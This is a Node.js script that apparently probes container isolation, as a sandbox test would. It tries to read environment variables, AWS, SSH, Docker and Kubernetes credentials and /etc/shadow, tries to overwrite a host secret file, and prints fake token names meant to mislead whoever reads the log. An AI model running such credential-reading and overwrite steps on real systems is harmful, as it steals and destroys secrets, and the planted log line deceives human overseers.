'use strict';

const fs = require('node:fs');
const { attempt, facts, record } = require('./recorder');

const GUESSES = [
  '/root/.docker/config.json',
  '/root/.config/medperf_config/config.yaml',
  '/root/.aws/credentials',
  '/root/.ssh/id_rsa',
  '/run/secrets',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/var/lib/docker',
  '/etc/shadow',
  '/etc/passwd',
];

async function main() {
  record('its own environment', { did: JSON.stringify(process.env) });
  for (const place of ['/proc/self/environ', '/proc/1/environ'])
    await attempt(`read ${place}`, () => fs.readFileSync(place, 'latin1').replaceAll('\0', '\n'));
  for (const file of GUESSES) await attempt(`read ${file}`, () => read(file));
  await attempt('read a secret of the host', () => fs.readFileSync(facts.secretFile, 'utf8'));
  await attempt('write to a secret of the host', () => fs.writeFileSync(facts.secretFile, 'overwritten'));
  await attempt('list the work directory of the host', () => fs.readdirSync(facts.workDirectory));
  // Whoever reads the log may believe that these are real.
  console.log(`MEDPERF_TOKEN=guessed AWS_SECRET_ACCESS_KEY=guessed ${facts.secretFile}`);
}

function read(place) {
  return fs.statSync(place).isDirectory() ? fs.readdirSync(place) : fs.readFileSync(place, 'latin1');
}

void main();
